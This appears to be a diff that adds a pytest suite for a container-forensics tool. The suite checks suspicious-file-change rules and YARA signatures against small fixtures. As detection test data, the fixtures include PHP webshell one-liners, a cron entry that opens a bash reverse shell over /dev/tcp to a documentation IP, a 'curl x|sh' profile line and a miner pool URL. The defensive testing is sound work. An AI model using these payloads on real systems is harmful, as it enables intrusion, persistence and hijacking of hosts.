@@ -1,0 +1,189 @@
+"""The suspicious-change rule table on small fixtures, and the YARA folder."""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from forensics import tools
+from forensics.containers import yarascan
+from forensics.containers.checks import CHECKS, Candidate, Matcher
+from forensics.host.rootfs import RootFS
+from forensics.records import NotAvailable
+from forensics.rules.container_changes import RULES
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
+REG = stat.S_IFREG
+
+
+def cand(path: bytes, kind: str = "A", mode: int = REG | 0o644, size: int = 10, ftype: str = "file",
+         original_mode: int | None = None, original_size: int | None = None) -> Candidate:  # fmt: skip
+    return Candidate(kind, path, ftype, mode, size, original_mode, original_size)
+
+
+# One change (and the file's first bytes) that each rule must flag. A new row in the table
+# without a fixture here fails test_every_rule_has_a_fixture.
+FIRES: dict[str, tuple[Candidate, bytes]] = {
+    "persistence.ld-preload": (cand(b"/etc/ld.so.preload"), b"/lib/x.so\n"),
+    "persistence.ld-config": (cand(b"/etc/ld.so.conf.d/evil.conf"), b"/tmp\n"),
+    "persistence.cron": (cand(b"/etc/cron.d/job"), b"* * * * * root sh\n"),
+    "persistence.service": (cand(b"/etc/systemd/system/x.service", "C", original_mode=REG | 0o644), b""),
+    "persistence.shell-profile": (cand(b"/etc/profile.d/x.sh"), b"curl x|sh\n"),
+    "persistence.shell-rc": (cand(b"/home/bob/.bashrc", "C", original_mode=REG | 0o644), b"alias"),
+    "persistence.authorized-keys": (cand(b"/root/.ssh/authorized_keys"), b"ssh-ed25519 AAAA"),
+    "persistence.sshd": (
+        cand(b"/etc/ssh/sshd_config", "C", original_mode=REG | 0o644),
+        b"PermitRootLogin yes",
+    ),
+    "persistence.pam": (cand(b"/lib/x86_64-linux-gnu/security/pam_evil.so"), ELF),
+    "accounts.files": (cand(b"/etc/shadow", "D", original_mode=REG | 0o640), b""),
+    "webshell.pattern": (cand(b"/var/www/html/up.php"), b"<?php @eval($_POST['c']); ?>"),
+    "webshell.script": (cand(b"/usr/share/nginx/html/info.php"), b"<?php phpinfo(); ?>"),
+    "exec.elf-in-tmp": (cand(b"/dev/shm/x", mode=REG | 0o755), ELF),
+    "exec.elf": (cand(b"/usr/local/bin/kworker", mode=REG | 0o755), ELF),
+    "exec.script-in-tmp": (cand(b"/var/tmp/run.sh", mode=REG | 0o755), b"#!/bin/sh\n"),
+    "exec.script": (cand(b"/usr/local/bin/helper", mode=REG | 0o755), b"#!/usr/bin/env python3\n"),
+    "exec.setuid": (cand(b"/usr/bin/find", "C", mode=REG | 0o4755, original_mode=REG | 0o755), ELF),
+    "names.odd": (cand(b"/usr/lib/ \xe2\x80\xae"), b""),
+    "names.hidden": (cand(b"/usr/bin/.sshd"), ELF),
+    "packages.database": (cand(b"/var/lib/dpkg/status", "C", original_mode=REG | 0o644), b""),
+    "logs.cleared": (
+        cand(b"/root/.bash_history", "C", size=0, original_mode=REG | 0o600, original_size=900),
+        b"",
+    ),
+}
+
+# Changes that must NOT be flagged by the rule named.
+QUIET: list[tuple[str, Candidate, bytes]] = [
+    ("exec.elf", cand(b"/tmp/x", mode=REG | 0o755), ELF),  # elf-in-tmp covers it
+    ("exec.elf", cand(b"/usr/bin/tool"), b"#!/bin/sh"),
+    ("webshell.pattern", cand(b"/var/www/html/index.php"), b"<?php echo 'hello'; ?>"),
+    ("webshell.script", cand(b"/var/www/html/s.php"), b"<?php system($_GET['c']); ?>"),  # superseded
+    ("webshell.script", cand(b"/var/www/html/style.css"), b"body{}"),
+    ("names.hidden", cand(b"/.dockerenv"), b""),
+    ("names.hidden", cand(b"/home/bob/.vimrc"), b""),
+    ("names.odd", cand(b"/etc/normal-name.conf"), b""),
+    ("exec.setuid", cand(b"/usr/bin/passwd", "C", mode=REG | 0o4755, original_mode=REG | 0o4755), ELF),
+    ("exec.setuid", cand(b"/var/mail/x", mode=REG | 0o2644), b""),  # setgid without g+x: locking
+    (
+        "logs.cleared",
+        cand(b"/var/log/app.log", "C", size=2000, original_mode=REG | 0o644, original_size=1000),
+        b"",
+    ),
+    ("persistence.shell-rc", cand(b"/etc/skel/.bashrc"), b""),
+    ("persistence.cron", cand(b"/etc/cron.d/job", "D", original_mode=REG | 0o644), b""),
+    ("accounts.files", cand(b"/etc/passwd-", "C", original_mode=REG | 0o644), b""),
+]
+
+
+def flagged(c: Candidate, head: bytes) -> set[str]:
+    matcher = Matcher()
+    return {r.id for r in matcher.matches(c, matcher.wanted(c), head)}
+
+
+def test_every_rule_has_a_fixture() -> None:
+    assert {r.id for r in RULES} == set(FIRES)
+    assert len({r.id for r in RULES}) == len(RULES), "rule ids must be unique"
+
+
+@pytest.mark.parametrize("rule_id", sorted(FIRES))
+def test_rule_fires(rule_id: str) -> None:
+    candidate, head = FIRES[rule_id]
+    assert rule_id in flagged(candidate, head)
+
+
+@pytest.mark.parametrize(
+    ("rule_id", "candidate", "head"), QUIET, ids=[f"{r}:{c.path!r}" for r, c, _ in QUIET]
+)
+def test_rule_stays_quiet(rule_id: str, candidate: Candidate, head: bytes) -> None:
+    assert rule_id not in flagged(candidate, head)
+
+
+def test_content_is_asked_for_only_when_a_rule_wants_it() -> None:
+    matcher = Matcher()
+    config = cand(b"/etc/app.conf")
+    assert Matcher.window(matcher.wanted(config)) == 4  # the ELF magic; "#!" needs only 2
+    assert Matcher.window(matcher.wanted(cand(b"/etc/app.conf", "D"))) == 0
+    assert Matcher.window(matcher.wanted(cand(b"/var/www/a.php"))) == 256 * 1024
+
+
+def test_rule_table_refers_to_known_checks() -> None:
+    assert {r.check for r in RULES if r.check} <= set(CHECKS)
+    for rule in RULES:
+        assert set(rule.kinds) <= set("ACD") and rule.kinds
+        rule.pattern()  # compiles
+
+
+# ---- YARA -------------------------------------------------------------------------------
+
+YARA_FIXTURES = {
+    "webshell_php_request_eval": b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>",
+    "webshell_php_obfuscated_eval": b"<?php eval(base64_decode('ZWNobyAxOw==')); ?>",
+    "reverse_shell_dev_tcp": b"* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+    "miner_stratum_pool": b'{"url": "stratum+tcp://pool.example.net:3333"}',
+    "tool_privesc_enumeration": b"#!/bin/sh\n# linpeas - PEASS-ng\n",
+}
+
+
+@pytest.fixture()
+def yara_tree(tmp_path: Path) -> Path:
+    top = tmp_path / "upper"
+    top.mkdir()
+    for name, data in YARA_FIXTURES.items():
+        (top / name).write_bytes(data)
+        os.utime(top / name, ns=(1_000_000_000, 2_000_000_000))  # atime older than mtime
+    (top / "clean").write_bytes(b"nothing to see")
+    os.symlink("/etc/shadow", top / "link")
+    os.mkfifo(top / "fifo")
+    return top
+
+
+def _need_yara() -> None:
+    if isinstance(tools.which("yara"), NotAvailable):
+        pytest.skip("yara is not installed (apt-get install yara)")
+
+
+def test_yara_rules_match_their_fixtures_without_touching_atime(yara_tree: Path) -> None:
+    _need_yara()
+    paths = [b"/" + n.encode() for n in (*YARA_FIXTURES, "clean", "link", "fifo", "missing")]
+    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
+    assert result.status == "ran", result.errors
+    found = {(m.path.decode(), m.rule) for m in result.matches}
+    for rule in YARA_FIXTURES:
+        assert (f"/{rule}", rule) in found
+    assert not any(path == "/clean" for path, _ in found)
+    skipped = {p for p, _why in result.not_scanned}
+    assert skipped == {b"/link", b"/fifo", b"/missing"}  # never followed, never opened, absent
+    for name in YARA_FIXTURES:
+        assert (yara_tree / name).stat().st_atime_ns == 1_000_000_000
+
+
+def test_every_yara_file_compiles() -> None:
+    _need_yara()
+    files = yarascan.rule_files()
+    assert files, "the YARA folder is empty"
+    binary = tools.which("yara")
+    assert isinstance(binary, str)
+    for rule_file in files:
+        run = tools.run([binary, "--no-warnings", str(rule_file), "/dev/null"], timeout=30)
+        assert run.ok, f"{rule_file.name}: {run.describe()}"
+
+
+def test_yara_absent_is_a_recorded_skip(yara_tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(
+        tools, "which", lambda name, forbidden_root=None: NotAvailable(f"{name} is not on PATH")
+    )
+    result = yarascan.scan(RootFS(yara_tree), [b"/clean"], forbidden_root="/")
+    assert result.status == "skipped" and "not on PATH" in result.reason
+
+
+def test_yara_batches(yara_tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    _need_yara()
+    monkeypatch.setattr(yarascan, "BATCH_FILES", 2)
+    paths = [b"/" + n.encode() for n in YARA_FIXTURES]
+    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
+    assert result.batches == 3 and result.files == len(YARA_FIXTURES)
+    assert len({m.path for m in result.matches}) == len(YARA_FIXTURES)
